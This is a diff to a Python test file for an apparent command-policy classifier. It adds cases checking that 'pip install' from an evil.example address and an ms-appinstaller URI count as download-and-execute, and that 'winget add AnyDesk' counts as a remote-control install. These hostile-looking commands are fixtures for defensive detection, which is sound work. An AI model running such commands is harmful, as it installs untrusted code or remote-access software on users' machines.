@@ -46,11 +46,25 @@ def _fetched(name: str, *words: str | None) -> list[str | None]:
         ("deno", ("run", "x.ts", "https://a.example"), []),
         ("winget", ("install", "-m", "C:\\t\\m.yaml"), ["C:\\t\\m.yaml"]),
         ("notepad", ("https://evil.example/x",), []),
+        ("pip", ("install", None, "https://evil.example/x"), ["https://evil.example/x"]),  # past a word not known
     ],
 )  # fmt: skip
 def test_which_words_name_a_source(name: str, words: tuple[str | None, ...], fetched: list[str]) -> None:
     """S-RULE-166: the address (or GitHub shorthand) each download-execute names."""
     assert _fetched(name, *words) == fetched
+
+
+@requirement("S-RULE-166", "S-RULE-169")
+def test_an_app_installer_uri_names_its_source_and_winget_add_is_install() -> None:
+    """S-RULE-166: the target is the address after `source=`; S-RULE-169: `winget add` is `winget install`."""
+    from policy.rules.effects_packages import appinstaller_uri
+    from policy.rules.effects_remote_control import remote_control_tool
+
+    found = appinstaller_uri("ms-appinstaller:?source=https://e.example/x.appinstaller&a=1")
+    assert [(e.kind, e.target) for e in found] == [(EffectKind.DOWNLOAD_EXECUTE, "https://e.example/x.appinstaller")]
+    marked = [dict(e.extra).get("remote-control") for e in package_sources("winget", ("add", "AnyDesk.AnyDesk"))]
+    assert marked == ["anydesk"]
+    assert remote_control_tool("C:/Program Files/AnyDesk/AnyDesk.exe") == "anydesk"
 
 
 def _opened(name: str, *args: str) -> list[str | None]:
